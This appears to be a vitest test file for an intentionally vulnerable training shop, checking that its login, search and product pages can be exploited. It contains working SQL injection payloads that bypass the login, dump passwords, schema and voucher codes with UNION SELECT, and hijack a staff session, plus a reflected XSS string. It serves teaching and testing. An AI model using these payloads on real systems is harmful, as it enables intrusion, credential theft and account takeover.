import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startShopUnderTest } from './shop-under-test.ts';

let shop: Awaited<ReturnType<typeof startShopUnderTest>>;
beforeAll(async () => {
  shop = await startShopUnderTest();
});
afterAll(() => shop.stop());

describe('the login', () => {
  it('logs in as Rosa when the password check is commented out', async () => {
    const visit = shop.visit();
    const email = "rosa@quartierladen.example' --";
    expect((await visit.login(email, "it's")).status).toBe(302);
    expect((await visit.event('login')).data).toMatchObject({ customer_id: 1, role: 'staff' });
    expect((await visit.event('sql')).data).toMatchObject({
      input: email,
      query_prefix: "SELECT id, name, email FROM customers WHERE email = '",
      query_suffix: "' AND password = 'it's'",
      query_order: '',
      query_comment: '',
      prepared: false,
      error: null,
      result: [{ id: 1, name: 'Rosa Keller', email: 'rosa@quartierladen.example' }],
    });
    expect((await visit.send('/staff/')).status).toBe(200);
  });

  it('shows the database’s error for an unpaired quote', async () => {
    const visit = shop.visit();
    const response = await visit.login("'", '');
    expect(response.status).toBe(500);
    expect(await response.text()).toContain('SQLite error:');
    expect((await visit.event('sql')).data['error']).toMatch(/near|unrecognized/);
  });

  it('refuses a made-up customer', async () => {
    expect((await shop.visit().login("' UNION SELECT 77, 'x', 'y' --", '')).status).toBe(401);
  });
});

describe('the search', () => {
  it('shows other tables by UNION, with or without the query’s own tail', async () => {
    const visit = shop.visit();
    const shown = await (
      await visit.search("x' UNION SELECT id, email, password, role FROM customers --")
    ).text();
    expect(shown).toContain('Zopf+Butter-1972');
    expect((await visit.event('sql')).data.result).toHaveLength(9);
    const notes = await visit.search("x%' UNION SELECT 1, author, text, 2 FROM staff_notes WHERE '%' = '");
    expect(await notes.text()).toContain('Murmeltier');
    const tables = await visit.search("x' UNION SELECT 1, name, sql, 2 FROM sqlite_master --");
    expect(await tables.text()).toContain('CREATE TABLE vouchers');
  });

  it('reports each query in parts that join to the whole', async () => {
    const visit = shop.visit();
    await visit.search('honey');
    const { data, learner } = await visit.event('sql');
    expect(learner).toBe(visit.learner);
    expect(data).toMatchObject({
      input: 'honey',
      query_prefix: "SELECT id, name, description, price FROM products WHERE name LIKE '%",
      query_suffix: "%'",
      query_order: ' ORDER BY price',
      query_comment: '',
      error: null,
      result: [{ id: 3, name: 'Wildflower honey', price: 12.5 }],
    });
  });

  it('puts the search text into the page unescaped', async () => {
    expect(await (await shop.visit().search('<script>alert(1)</script>')).text()).toContain(
      'You looked for “<script>alert(1)</script>”',
    );
  });
});

describe('the product page', () => {
  it('takes its number as SQL, slashes included', async () => {
    const visit = shop.visit();
    expect(await visit.page(`/products/${encodeURIComponent('2 AND 1=1')}`)).toContain('Jaun');
    expect((await visit.send(`/products/${encodeURIComponent('2 AND 1=2')}`)).status).toBe(404);
    expect(
      await visit.page('/products/0/**/UNION/**/SELECT/**/1,code,3,value/**/FROM/**/vouchers'),
    ).toContain('BLUEFLOWER-30');
    expect((await visit.event('sql')).data['query_suffix']).toBe('');
    expect((await visit.send("/products/'")).status).toBe(500);
  });

  it('gives away Rosa’s open session', async () => {
    const visit = shop.visit();
    await visit.search("x' UNION SELECT sid, customer_id, 3, 4 FROM sessions --");
    const [row] = (await visit.event('sql')).data.result ?? [];
    visit.cookie = `sid=${String(row?.['id'])}`;
    expect((await visit.send('/staff/')).status).toBe(200);
  });
});
